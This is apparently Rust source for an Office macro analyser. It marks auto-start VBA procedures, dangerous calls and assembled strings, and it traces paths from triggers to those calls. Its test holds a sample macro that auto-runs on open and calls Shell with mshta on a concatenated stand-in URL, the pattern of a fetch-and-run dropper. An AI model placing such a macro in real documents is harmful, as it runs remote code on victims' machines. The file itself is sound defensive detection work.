//! A program's source for a reader: which lines start by themselves, which act and how, which texts come together on them,
//! and the ways from the one to the other.

use std::collections::BTreeSet;

use super::judge::{Judgement, Places};
use super::program::{Part, Program};
use super::project::Sort;
use crate::formats::office::strings::NamedString;
use crate::knowledge::vba::{Deed, TriggerKind};

/// A module to be reviewed.
#[derive(Debug, Clone, Copy)]
pub struct Source<'a> {
    /// Its name.
    pub name: &'a str,
    /// What it is, if a table says so.
    pub sort: Option<Sort>,
    /// Its text.
    pub text: &'a str,
}

/// Why a line is worth a look.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Why {
    /// A procedure starts here without a call.
    Starts(TriggerKind),
    /// Something is done here.
    Does(Deed),
    /// A text comes together here from pieces.
    Makes,
}

/// A line worth a look.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Mark {
    /// Index of the module.
    pub module: usize,
    /// Line, counted from 1.
    pub line: u32,
    /// Why.
    pub why: Why,
    /// The procedure's name, the use with its argument, the text.
    pub text: String,
    /// Whether an automatic trigger comes to it.
    pub is_reached: bool,
}

/// A step on the way from a trigger to an act.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Step {
    /// Index of the module.
    pub module: usize,
    /// Line of the procedure, or of the act.
    pub line: u32,
    /// The procedure, or the act.
    pub text: String,
}

/// A way from a trigger to an act.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Way {
    /// How it starts.
    pub start: TriggerKind,
    /// What it comes to.
    pub does: Deed,
    /// From the trigger to the act.
    pub steps: Vec<Step>,
}

/// What a reader should look at.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Review {
    /// Lines, by module and line.
    pub marks: Vec<Mark>,
    /// Ways from triggers to acts, the gravest acts first.
    pub ways: Vec<Way>,
    /// Whether a limit cut the review short.
    pub is_cut: bool,
}

/// Acts a reader wants to know the way to.
const ACTS: [Deed; 9] = [
    Deed::Execute,
    Deed::Start,
    Deed::Memory,
    Deed::Download,
    Deed::Write,
    Deed::Modify,
    Deed::Registry,
    Deed::Mail,
    Deed::Delete,
];
/// Ways shown.
const MAX_WAYS: usize = 64;
/// Triggers followed.
const MAX_TRIGGERS: usize = 64;
/// Texts marked.
const MAX_TEXTS: usize = 2_000;

/// Reviews the modules of one program; `strings` is what the document keeps outside them.
pub fn review(sources: &[Source<'_>], strings: &[NamedString]) -> Review {
    let parts: Vec<Part<'_>> =
        sources.iter().map(|source| Part { name: source.name, sort: source.sort, source: source.text }).collect();
    let strings = strings.iter().map(|string| (string.name.to_lowercase(), string.value.clone())).collect();
    let program = Program::with(&parts, &strings);
    let judgement = Judgement::new(&program, Places::ModuleAndLine);
    let mut marks = Vec::new();
    for trigger in &judgement.triggers {
        let Some(routine) = program.routines.get(trigger.routine) else { continue };
        let Some(procedure) = program.procedure(routine) else { continue };
        marks.push(Mark {
            module: routine.module,
            line: procedure.line,
            why: Why::Starts(trigger.kind),
            text: procedure.name.clone(),
            is_reached: trigger.kind.is_automatic(),
        });
    }
    for ability in &judgement.abilities {
        let module = program.routines.get(ability.routine).map_or(0, |routine| routine.module);
        marks.push(Mark {
            module,
            line: ability.line,
            why: Why::Does(ability.does),
            text: ability.what.clone(),
            is_reached: judgement.is_reached(ability.routine),
        });
    }
    marks.extend(texts(&program));
    marks.sort_by(|a, b| (a.module, a.line, a.why, &a.text).cmp(&(b.module, b.line, b.why, &b.text)));
    marks.dedup();
    Review { marks, ways: ways(&judgement), is_cut: program.is_cut }
}

/// Texts that no literal of their module holds.
fn texts(program: &Program) -> Vec<Mark> {
    const MIN_TEXT: usize = 4;
    let mut known = BTreeSet::new();
    let mut marks = Vec::new();
    for (module, made) in program.made() {
        let text = made.text.text.as_str();
        let source = program.modules.get(module).map_or("", |module| module.code.lexed.text.as_str());
        // Each new text costs a search of the module.
        let is_new = text.trim().len() >= MIN_TEXT
            && known.len() < MAX_TEXTS
            && known.insert((module, text))
            && memchr::memmem::find(source.as_bytes(), text.as_bytes()).is_none();
        if is_new {
            let text = text.to_owned();
            marks.push(Mark { module, line: made.line, why: Why::Makes, text, is_reached: false });
        }
    }
    marks
}

fn ways(judgement: &Judgement<'_>) -> Vec<Way> {
    let program = judgement.program;
    let reaches = judgement.reaches(MAX_TRIGGERS);
    let mut found = Vec::new();
    let mut known = BTreeSet::new();
    for does in ACTS {
        for ability in judgement.abilities.iter().filter(|ability| ability.does == does) {
            let Some((kind, reach)) = reaches.iter().find(|(_, reach)| reach.has(ability.routine)) else { continue };
            if found.len() >= MAX_WAYS || !known.insert((ability.routine, ability.line, &ability.what)) {
                continue;
            }
            let mut steps: Vec<Step> = reach
                .path(ability.routine)
                .into_iter()
                .filter_map(|step| {
                    let routine = program.routines.get(step)?;
                    let procedure = program.procedure(routine)?;
                    Some(Step { module: routine.module, line: procedure.line, text: procedure.name.clone() })
                })
                .collect();
            let module = program.routines.get(ability.routine).map_or(0, |routine| routine.module);
            steps.push(Step { module, line: ability.line, text: ability.what.clone() });
            found.push(Way { start: *kind, does, steps });
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_and_ways() {
        let source = Source {
            name: "M",
            sort: None,
            text: "Sub AutoOpen()\n  Go\nEnd Sub\nSub Go()\n  u = \"ht\" & \"tp://example.com/\"\n  Shell \"mshta \" & u\nEnd Sub\n",
        };
        let review = review(&[source], &[]);
        let ways: Vec<String> = review
            .ways
            .iter()
            .map(|way| {
                way.steps.iter().map(|step| format!("{}:{}", step.text, step.line)).collect::<Vec<_>>().join(" > ")
            })
            .collect();
        assert_eq!(ways, ["AutoOpen:1 > Go:4 > Shell \"mshta http://example.com/\":6"]);
        let lines: Vec<(u32, Why)> = review.marks.iter().map(|mark| (mark.line, mark.why)).collect();
        assert!(lines.contains(&(1, Why::Starts(TriggerKind::Open))), "{lines:?}");
        assert!(lines.contains(&(5, Why::Makes)) || lines.contains(&(6, Why::Makes)), "{lines:?}");
        assert!(lines.contains(&(6, Why::Does(Deed::Execute))) && lines.contains(&(6, Why::Does(Deed::Download))));
    }

    #[test]
    fn honest_code_has_no_marks() {
        let text = "Sub Sum()\n  Range(\"A1\").Value = 1\nEnd Sub\n";
        assert_eq!(review(&[Source { name: "M", sort: None, text }], &[]), Review::default());
    }
}
